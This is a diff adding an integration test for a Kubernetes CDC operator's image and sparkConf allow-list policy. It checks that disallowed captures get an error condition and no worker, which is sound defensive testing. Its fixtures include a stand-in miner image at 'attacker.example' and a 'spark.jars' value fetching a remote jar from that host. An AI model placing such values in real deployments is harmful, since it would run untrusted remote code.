@@ -33,6 +33,7 @@ TEST_OPERATOR_ENV = {
     "MYSQLCAPTURE_PURGE_RISK_SECONDS": "0",  # test binlogs are tiny: only the files criterion is meaningful
     "MYSQLCAPTURE_LEASE_SECONDS": "6",
     "MYSQLCAPTURE_HTTP_PORT": "0",  # several operators run at once: each serves /metrics on a free port
+    "MYSQLCAPTURE_ALLOWED_IMAGES": "registry.test/cdc/*",  # the administrator's image policy
 }
 
 
@@ -295,6 +296,46 @@ def test_a_missing_secret_is_a_condition_not_a_crash(cluster: Cluster, operator:
     wait_for(cluster, "apps/v1", "Deployment", "nosecret-worker", ns, timeout=30)
     events = cluster.kube.list("v1", "Event", ns)
     assert any(e["reason"] == "Error" and "absent" in e["message"] for e in events), events
+
+
+def test_images_and_spark_conf_are_the_administrators_choice(
+    cluster: Cluster, operator: OperatorProcess, ns: str
+) -> None:
+    """A capture asking for an image or a sparkConf key the operator's policy does not allow gets no children (nothing
+    runs its image with its Secret, or its code under the compaction ServiceAccount): a condition names the field
+    and the fix. An allowed image is used; a capture fixed to the policy gets its worker."""
+    password_secret(cluster, ns)
+    cluster.kube.apply(capture_doc("evil", ns, port=free_port(), workerImage="attacker.example/miner:1"))
+    jars = {"schedule": "@hourly", "sparkConf": {"spark.jars": "https://attacker.example/x.jar"}}
+    cluster.kube.apply(capture_doc("jars", ns, port=free_port(), compaction=jars))
+    cluster.kube.apply(capture_doc("allowed", ns, port=free_port(), workerImage="registry.test/cdc/worker:2"))
+    for name, reason, words in [
+        ("evil", "ImageNotAllowed", ["spec.workerImage 'attacker.example/miner:1'", "allowedImages"]),
+        ("jars", "SparkConfNotAllowed", ["spec.compaction.sparkConf sets spark.jars", "compaction.allowedSparkConf"]),
+    ]:
+        status = wait_until(
+            lambda name=name, reason=reason: (
+                condition(s := status_of(cluster, name, ns), "Ready").get("reason") == reason and s
+            ),
+            timeout=30,
+            what=f"the {reason} condition",
+        )
+        ready = condition(status, "Ready")
+        assert ready["status"] == "False" and status["phase"] == "Error", status
+        assert all(w in ready["message"] for w in words), ready["message"]
+    deployment = wait_for(cluster, "apps/v1", "Deployment", "allowed-worker", ns, timeout=30)
+    assert deployment["spec"]["template"]["spec"]["containers"][0]["image"] == "registry.test/cdc/worker:2"
+    time.sleep(3)  # a retry or resync would have created them by now
+    for name in ("evil", "jars"):
+        assert cluster.kube.get("apps/v1", "Deployment", f"{name}-worker", ns) is None
+        assert cluster.kube.get("v1", "ConfigMap", f"{name}-config", ns) is None
+    # The status stays what the policy says: the observation loop does not overwrite it.
+    assert condition(status_of(cluster, "evil", ns), "Ready")["reason"] == "ImageNotAllowed"
+    # Fixed to the policy: the worker is created.
+    doc = capture_doc("evil", ns, port=free_port())
+    cluster.kube.apply(doc)
+    wait_for(cluster, "apps/v1", "Deployment", "evil-worker", ns, timeout=30)
+    assert operator.alive()
 
 
 def test_two_operator_replicas_only_one_acts(cluster: Cluster, tmp_path: Path) -> None:
